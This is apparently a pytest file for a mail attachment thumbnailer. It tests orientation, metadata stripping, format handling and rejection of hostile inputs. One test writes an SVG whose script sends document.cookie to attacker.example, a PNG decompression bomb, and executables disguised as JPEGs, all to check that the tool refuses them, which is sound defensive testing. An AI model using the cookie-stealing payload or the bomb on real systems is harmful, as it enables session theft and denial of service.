"""mail-thumbnail(1): pictures made by Pillow here, hostile ones among them, go through the
release binary; what it writes is read back with Pillow."""
import hashlib
import io
import json
import struct
import zlib

import shutil
import subprocess

import pytest

from conftest import run

Image = pytest.importorskip("PIL.Image", reason="Pillow (scripts/install-deps --test installs it)")

FIELDS = ["file", "sha256", "kind", "width", "height", "thumbnail", "display", "error"]


def thumbnails(tmp_path, *files, options=()):
    out = tmp_path / "out"
    out.mkdir(exist_ok=True)
    r = run("mail-thumbnail", *options, "--out", out, *files)
    assert r.returncode == 0, r.stderr
    lines = [json.loads(line) for line in r.stdout.splitlines()]
    assert [line["file"] for line in lines] == [str(f) for f in files]
    for line, f in zip(lines, files):
        assert list(line) == FIELDS
        if line["sha256"] is not None:
            assert line["sha256"] == hashlib.sha256(f.read_bytes()).hexdigest()
    return lines


def picture(tmp_path, name, make):
    path = tmp_path / name
    make(path)
    return path


def no_metadata(path):
    """Nothing but pixels: no EXIF (GPS included), XMP, ICC profile or comment."""
    with Image.open(path) as im:
        assert not im.getexif(), path
        assert im.getexif().get_ifd(0x8825) == {}
        for key in ("exif", "icc_profile", "xmp", "XML:com.adobe.xmp", "comment", "photoshop"):
            assert key not in im.info, (path, key)
    data = path.read_bytes()
    assert b"Exif" not in data and b"GPS" not in data and b"http://ns.adobe.com/xap" not in data


def test_a_photo_is_turned_upright_and_loses_its_gps_position(tmp_path):
    def make(path):
        im = Image.new("RGB", (400, 200), (200, 30, 30))
        im.paste((0, 0, 255), (0, 0, 100, 50))  # blue in the stored top left corner
        exif = Image.Exif()
        exif[0x0112] = 6  # shown turned a quarter clockwise
        exif[0x8825] = {1: "N", 2: (25.0, 2.0, 0.0), 3: "E", 4: (121.0, 30.0, 0.0)}
        exif[0x010F] = "PhoneMaker"
        im.save(path, exif=exif.tobytes(), quality=95)

    photo = picture(tmp_path, "IMG_0001.JPG", make)
    with Image.open(photo) as im:
        assert im.getexif().get_ifd(0x8825)  # the input does carry a position
    [line] = thumbnails(tmp_path, photo)
    sha = line["sha256"]
    assert line == {"file": str(photo), "sha256": sha, "kind": "image", "width": 200, "height": 400,
                    "thumbnail": str(tmp_path / "out" / f"{sha}.t.jpg"), "display": str(tmp_path / "out" / f"{sha}.jpg"),
                    "error": None}
    for path, size in [(line["display"], (200, 400)), (line["thumbnail"], (160, 320))]:
        with Image.open(path) as im:
            assert im.format == "JPEG" and im.size == size
            r, g, b = im.convert("RGB").getpixel((im.width - 5, 5))  # blue now top right
            assert b > 200 and r < 60, (path, (r, g, b))
            r, g, b = im.convert("RGB").getpixel((5, 5))
            assert r > 150 and b < 80, (path, (r, g, b))
        no_metadata(tmp_path / "out" / path.split("/")[-1])


def test_transparency_makes_png_and_opaque_pictures_jpeg(tmp_path):
    alpha = picture(tmp_path, "alpha.png", lambda p: Image.new("RGBA", (600, 300), (0, 255, 0, 100)).save(p))
    opaque = picture(tmp_path, "opaque.png", lambda p: Image.new("RGBA", (600, 300), (0, 255, 0, 255)).save(p))
    a, o = thumbnails(tmp_path, alpha, opaque, options=["--size", "100", "--display", "300"])
    assert a["thumbnail"].endswith(".t.png") and a["display"].endswith(".png")
    with Image.open(a["thumbnail"]) as im:
        assert im.format == "PNG" and im.size == (100, 50) and im.mode == "RGBA"
        assert 90 <= im.getpixel((50, 25))[3] <= 110
    with Image.open(a["display"]) as im:
        assert im.size == (300, 150)
    assert o["thumbnail"].endswith(".t.jpg") and (o["width"], o["height"]) == (600, 300)
    for path in (a["thumbnail"], a["display"], o["thumbnail"]):
        no_metadata(tmp_path / "out" / path.split("/")[-1])


def test_a_colour_profile_is_applied_then_left_out(tmp_path):
    from PIL import ImageCms
    srgb = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    tagged = picture(tmp_path, "tagged.jpg", lambda p: Image.new("RGB", (64, 64), (0, 0, 255)).save(p, quality=95, icc_profile=srgb))
    untagged = picture(tmp_path, "untagged.jpg", lambda p: Image.new("RGB", (64, 64), (0, 0, 255)).save(p, quality=95))
    with Image.open(tagged) as im:
        assert "icc_profile" in im.info
    for line in thumbnails(tmp_path, tagged, untagged):
        with Image.open(line["thumbnail"]) as im:
            r, g, b = im.convert("RGB").getpixel((32, 32))
            assert r < 20 and g < 20 and b > 240, (line["file"], (r, g, b))
        no_metadata(tmp_path / "out" / line["thumbnail"].split("/")[-1])


def test_an_animated_gif_shows_its_first_frame(tmp_path):
    def make(path):
        frames = [Image.new("RGB", (120, 80), colour) for colour in [(255, 0, 0), (0, 255, 0), (0, 0, 255)]]
        frames[0].save(path, save_all=True, append_images=frames[1:], duration=100, loop=0)

    gif = picture(tmp_path, "anim.gif", make)
    [line] = thumbnails(tmp_path, gif)
    assert (line["kind"], line["width"], line["height"]) == ("image", 120, 80)
    with Image.open(line["display"]) as im:
        assert getattr(im, "n_frames", 1) == 1
        r, g, b = im.convert("RGB").getpixel((60, 40))
        assert r > 200 and g < 50 and b < 50


def test_webp(tmp_path):
    webp = picture(tmp_path, "pic.webp", lambda p: Image.new("RGB", (1000, 500), (10, 20, 200)).save(p, "WEBP"))
    [line] = thumbnails(tmp_path, webp)
    assert (line["kind"], line["width"], line["height"], line["error"]) == ("image", 1000, 500, None)
    with Image.open(line["thumbnail"]) as im:
        assert im.format == "JPEG" and im.size == (320, 160)


@pytest.mark.skipif(not shutil.which("vips"), reason="vips(1) is not installed (scripts/install-deps --test)")
def test_heic_where_libheif_reads_it(tmp_path):
    source = picture(tmp_path, "source.png", lambda p: Image.new("RGB", (640, 480), (200, 100, 0)).save(p))
    heic = tmp_path / "IMG_0002.HEIC"
    subprocess.run(["vips", "copy", str(source), f"{heic}[Q=80]"], check=True, capture_output=True)
    if not heic.read_bytes()[4:12] == b"ftypheic":
        pytest.skip("this libheif writes no HEIC")
    [line] = thumbnails(tmp_path, heic)
    assert (line["kind"], line["width"], line["height"], line["error"]) == ("image", 640, 480, None), line
    with Image.open(line["thumbnail"]) as im:
        assert im.format == "JPEG" and im.size == (320, 240)
        r, g, b = im.convert("RGB").getpixel((160, 120))
        assert r > 170 and 70 < g < 130 and b < 40, (r, g, b)


def png_declaring(width, height):
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(b"\0" * 100000)) + chunk(b"IEND", b""))


def test_hostile_files_are_files_and_the_run_goes_on(tmp_path):
    bomb = tmp_path / "bomb.png"
    bomb.write_bytes(png_declaring(100000, 100000))
    svg = tmp_path / "cat.svg"
    svg.write_text('<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100">'
                   '<script>fetch("https://attacker.example/"+document.cookie)</script><rect width="100" height="100"/></svg>')
    elf = tmp_path / "holiday.jpg"
    elf.write_bytes(open("/bin/true", "rb").read())
    archive = tmp_path / "beach.jpg"
    buffer = io.BytesIO()
    import zipfile
    with zipfile.ZipFile(buffer, "w") as z:
        z.writestr("payload.exe", b"MZ" + b"\0" * 100)
    archive.write_bytes(buffer.getvalue())
    empty = tmp_path / "empty.png"
    empty.write_bytes(b"")
    missing = tmp_path / "missing.jpg"
    good = picture(tmp_path, "good.png", lambda p: Image.new("RGB", (50, 40), (1, 2, 3)).save(p))
    lines = thumbnails(tmp_path, bomb, svg, elf, archive, empty, missing, good)
    for line in lines[:-1]:
        assert line["kind"] == "file" and line["thumbnail"] is None and line["display"] is None, line
        assert line["width"] is None and line["error"]
    assert "100000×100000 is over the limit" in lines[0]["error"]
    assert "script" in lines[1]["error"]
    assert "application/x-" in lines[2]["error"] and "application/zip" in lines[3]["error"]
    assert lines[5]["sha256"] is None and "No such file" in lines[5]["error"]
    assert lines[-1]["kind"] == "image"
    assert sorted(p.name for p in (tmp_path / "out").iterdir()) == sorted(
        [f"{lines[-1]['sha256']}.jpg", f"{lines[-1]['sha256']}.t.jpg"])


def test_the_pixel_limit_is_an_option(tmp_path):
    photo = picture(tmp_path, "p.png", lambda p: Image.new("RGB", (100, 100), (1, 2, 3)).save(p))
    [refused] = thumbnails(tmp_path, photo, options=["--max-pixels", "9999"])
    assert refused["kind"] == "file" and "100×100" in refused["error"]
    [made] = thumbnails(tmp_path, photo, options=["--max-pixels", "10000"])
    assert made["kind"] == "image"


def test_a_truncated_jpeg_never_ends_the_run(tmp_path):
    whole = picture(tmp_path, "whole.jpg", lambda p: Image.effect_noise((800, 600), 50).convert("RGB").save(p, quality=90))
    truncated = tmp_path / "cut.jpg"
    truncated.write_bytes(whole.read_bytes()[:len(whole.read_bytes()) // 3])
    cut, after = thumbnails(tmp_path, truncated, whole)
    assert cut["kind"] in ("image", "file")
    if cut["kind"] == "image":  # what could be read of it
        with Image.open(cut["thumbnail"]) as im:
            assert im.size == (320, 240)
    assert after["kind"] == "image"


def test_a_decoder_that_runs_out_of_memory_refuses_that_file_only(tmp_path):
    # 9,000 × 9,000 is under the pixel limit, but GIF decodes whole: 324 MB, over 256 MiB of
    # address space, where glib aborts; the worker dies, not the run
    big = picture(tmp_path, "big.gif", lambda p: Image.new("P", (9000, 9000), 3).save(p))
    good = picture(tmp_path, "good.png", lambda p: Image.new("RGB", (50, 40), (1, 2, 3)).save(p))
    out = tmp_path / "out"
    out.mkdir()
    r = run("mail-thumbnail", "--max-memory", "256", "--out", out, big, good, big, good)
    assert r.returncode == 0, r.stderr
    lines = [json.loads(line) for line in r.stdout.splitlines()]
    assert [line["kind"] for line in lines] == ["file", "image", "file", "image"], (lines, r.stderr)
    assert "the picture library failed on it" in lines[0]["error"] or "out of memory" in lines[0]["error"]
    assert lines[0]["sha256"] == hashlib.sha256(big.read_bytes()).hexdigest()


def test_a_pdf_shows_its_first_page(tmp_path):
    # two pages: the first blue on white, the second all red
    objects = [b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R 5 0 R]/Count 2>>",
               b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 300]/Contents 4 0 R>>", None,
               b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 300]/Contents 6 0 R>>", None]
    streams = {3: b"0 0 1 rg 0 0 300 300 re f", 5: b"1 0 0 rg 0 0 600 300 re f"}
    body = b"%PDF-1.4\n"
    offsets = []
    for i, obj in enumerate(objects):
        offsets.append(len(body))
        if obj is None:
            data = streams[i]
            obj = b"<</Length %d>>stream\n" % len(data) + data + b"\nendstream"
        body += b"%d 0 obj\n" % (i + 1) + obj + b"\nendobj\n"
    xref = len(body)
    body += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    body += b"".join(b"%010d 00000 n \n" % o for o in offsets)
    body += b"trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    pdf = tmp_path / "minutes.bin"
    pdf.write_bytes(body)
    [line] = thumbnails(tmp_path, pdf)
    assert (line["kind"], line["width"], line["height"], line["error"]) == ("pdf", 600, 300, None), line
    with Image.open(line["thumbnail"]) as im:
        assert im.format == "JPEG" and im.size == (320, 160)
        im = im.convert("RGB")
        left, right = im.getpixel((40, 80)), im.getpixel((280, 80))
        assert left[2] > 200 and left[0] < 60, left  # blue: page one, not page two's red
        assert min(right) > 200, right  # white
    with Image.open(line["display"]) as im:
        assert im.size == (1600, 800)  # drawn at the size asked, not at 72 dpi


def test_bad_usage(tmp_path):
    r = run("mail-thumbnail", "--out", tmp_path / "nowhere", tmp_path / "x.jpg")
    assert r.returncode == 73 and b"nowhere" in r.stderr and r.stdout == b""
    r = run("mail-thumbnail", "--out", tmp_path)
    assert r.returncode == 64
    r = run("mail-thumbnail", "--size", "5", "--out", tmp_path, tmp_path / "x.jpg")
    assert r.returncode == 64
